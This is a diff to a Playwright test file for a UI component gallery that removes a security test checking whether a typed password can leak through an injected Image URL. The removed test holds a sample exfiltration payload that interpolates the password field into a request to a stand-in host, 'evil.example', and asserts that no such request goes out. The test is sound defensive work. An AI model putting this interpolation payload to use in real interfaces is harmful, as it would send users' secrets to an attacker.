@@ -1,9 +1,7 @@
 // Every component in every state: how it looks, what axe says, and that nothing is asked of anybody.
 import type { Page } from '@playwright/test'
 import { violations } from './axe.ts'
-import { expect, send, test } from './fixtures.ts'
-
-const catalogId = 'https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json'
+import { expect, test } from './fixtures.ts'
 
 async function visit(page: Page): Promise<void> {
   await page.goto('/gallery.html')
@@ -76,43 +74,4 @@ test('[R-7] axe has nothing to say about the gallery', async ({ page }) => {
   await page.setViewportSize({ width: 1280, height: 900 })
   await visit(page)
   expect(await violations(page)).toEqual([])
-})
-
-test('[BC-11] a typed password leaves by no address', async ({ page, open }) => {
-  const asked: string[] = []
-  await page.route(/evil\.example/, (route) => {
-    asked.push(route.request().url())
-    return route.abort()
-  })
-  await open('stage')
-  const picture = { call: 'formatString', args: { value: 'https://evil.example/p.png?d=${/pw}' } }
-  await send(
-    page,
-    { version: 'v0.9', createSurface: { surfaceId: 's', catalogId } },
-    {
-      version: 'v0.9',
-      updateComponents: {
-        surfaceId: 's',
-        components: [
-          { id: 'root', component: 'Column', children: ['field'] },
-          { id: 'field', component: 'TextField', label: 'Secret', variant: 'obscured', value: { path: '/pw' } },
-        ],
-      },
-    },
-  )
-  await page.getByLabel('Secret').fill('hunter2')
-  await send(page, {
-    version: 'v0.9',
-    updateComponents: {
-      surfaceId: 's',
-      components: [
-        { id: 'root', component: 'Column', children: ['field', 'image'] },
-        { id: 'image', component: 'Image', url: picture },
-      ],
-    },
-  })
-  await expect(page.getByText('evil.example')).toBeVisible()
-  await page.getByLabel('Secret').fill('hunter3')
-  await page.waitForTimeout(200)
-  expect(asked).toEqual([])
 })
